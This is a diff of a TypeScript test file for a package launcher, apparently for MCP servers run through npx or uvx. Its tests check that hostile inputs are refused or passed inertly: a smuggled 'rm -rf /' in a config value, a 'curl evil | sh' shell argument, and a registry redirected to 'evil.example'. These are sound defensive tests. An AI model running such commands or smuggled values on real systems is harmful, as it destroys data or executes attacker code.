@@ -17,6 +17,7 @@ import { referenceTo } from '../../shared/secret-reference.ts';
 
 const network = { checkLiteral, lookup: guardedLookup };
 const none = { config: {}, secretConfig: {} };
+const npxFolder = '/home/ann/gatehouse/npx';
 
 async function serve(
   act: (request: IncomingMessage, response: ServerResponse) => void,
@@ -166,23 +167,25 @@ const npm = weather.server.packages[0] as Packaged;
 
 test('a package runs as one exact version, in words of an argv array, its secret by name', () => {
   const answers = { config: { place: 'Bern; rm -rf /', '--units': 'x' }, secretConfig: { WEATHER_KEY: 'key' } };
-  expect(() => launchOfPackage(npm, answers)).toThrow(/does not ask for "--units"/);
-  const { fields, missing } = launchOfPackage(npm, none);
+  expect(() => launchOfPackage(npm, answers, npxFolder)).toThrow(/does not ask for "--units"/);
+  const { fields, missing } = launchOfPackage(npm, none, npxFolder);
   expect(fields.map(({ key, required, secret }) => [key, required, secret])).toEqual([
     ['units.units', false, false],
     ['place', true, false],
     ['WEATHER_KEY', true, true],
   ]);
   expect(missing).toEqual(['place', 'WEATHER_KEY']);
-  const launch = launchOfPackage(npm, { config: { place: 'Bern; rm -rf /' }, secretConfig: { WEATHER_KEY: 'key' } });
+  const launch = launchOfPackage(npm, { config: { place: 'Bern; rm -rf /' }, secretConfig: { WEATHER_KEY: 'key' } }, npxFolder);
   expect(launch).toMatchObject({
     command: 'npx',
-    args: ['-y', '@example/weather@2.3.1', '--units', 'metric', 'Bern; rm -rf /'],
+    args: ['-y', `--prefix=${npxFolder}`, '@example/weather@2.3.1', '--units', 'metric', 'Bern; rm -rf /'],
     env: { LOG: 'quiet' },
     secretEnv: { WEATHER_KEY: 'key' },
     missing: [],
   });
-  expect(() => launchOfPackage(npm, { config: { 'units.units': 'feet' }, secretConfig: {} })).toThrow(/is one of metric, imperial/);
+  expect(() => launchOfPackage(npm, { config: { 'units.units': 'feet' }, secretConfig: {} }, npxFolder)).toThrow(
+    /is one of metric, imperial/,
+  );
 });
 
 const strange: readonly (readonly [string, Partial<Packaged>, RegExp])[] = [
@@ -195,6 +198,11 @@ const strange: readonly (readonly [string, Partial<Packaged>, RegExp])[] = [
   ['a git address', { identifier: 'github:evil/x' }, /names the package/],
   ['another package beside it', { runtimeArguments: [{ type: 'named', name: '--package', value: 'evil' }] }, /make it run something else/],
   ['a shell line', { runtimeArguments: [{ type: 'named', name: '-c', value: 'curl evil | sh' }] }, /make it run something else/],
+  [
+    'a setting of npm',
+    { environmentVariables: [{ name: 'NPM_config_registry', value: 'https://evil.example' }] },
+    /make npx run something else/,
+  ],
   ['an unknown registry', { registryType: 'cargo' }, /cannot be run here/],
   ['a port of its own', { transport: { type: 'streamable-http', url: 'http://127.0.0.1:1' } }, /listens on a port/],
   ['a secret of the vault', { packageArguments: [{ type: 'positional', value: referenceTo('github-token') }] }, /names a secret/],
@@ -213,12 +221,16 @@ const strange: readonly (readonly [string, Partial<Packaged>, RegExp])[] = [
 ];
 
 test.each(strange)('a package with %s is not run', (_, change, why) => {
-  expect(() => launchOfPackage({ ...npm, packageArguments: [], ...change } as Packaged, none)).toThrow(why);
+  expect(() => launchOfPackage({ ...npm, packageArguments: [], ...change } as Packaged, none, npxFolder)).toThrow(why);
 });
 
 test('other runners get theirs', () => {
   const of = (change: Partial<Packaged>) => {
-    const { command, args } = launchOfPackage({ registryType: 'pypi', identifier: 'weather-mcp', version: '1.2.0', ...change }, none);
+    const { command, args } = launchOfPackage(
+      { registryType: 'pypi', identifier: 'weather-mcp', version: '1.2.0', ...change },
+      none,
+      npxFolder,
+    );
     return [command, ...args].join(' ');
   };
   expect(of({})).toBe('uvx weather-mcp@1.2.0');
@@ -257,7 +269,10 @@ test('a bundle that a registry names is fetched only with its hash, and is that 
   const registry = new Registry(network, new AnswerCache(newHome(), async () => Buffer.alloc(32)), Date.now);
   const machine = { platform: 'linux' as const, userHome: '/home/ann' };
   const of = () =>
-    new Candidates({ registry, network, machine, shelf: new BundleShelf('/nowhere'), address: () => address, now: Date.now });
+    new Candidates({
+      ...{ registry, network, machine, shelf: new BundleShelf('/nowhere'), address: () => address, now: Date.now, npxFolder },
+      integrityInNpm: () => Promise.reject(new Error('nothing of npm here')),
+    });
   const candidate = await of().fromRegistry({ id: 'io.example/bundle', ...none });
   expect(candidate).toMatchObject({ bundle: { sha256 }, package: { checked: true }, registry: { id: 'io.example/bundle' } });
   expect(candidate.args).toEqual([`/nowhere/bundles/${sha256}/files/server/index.js`]);
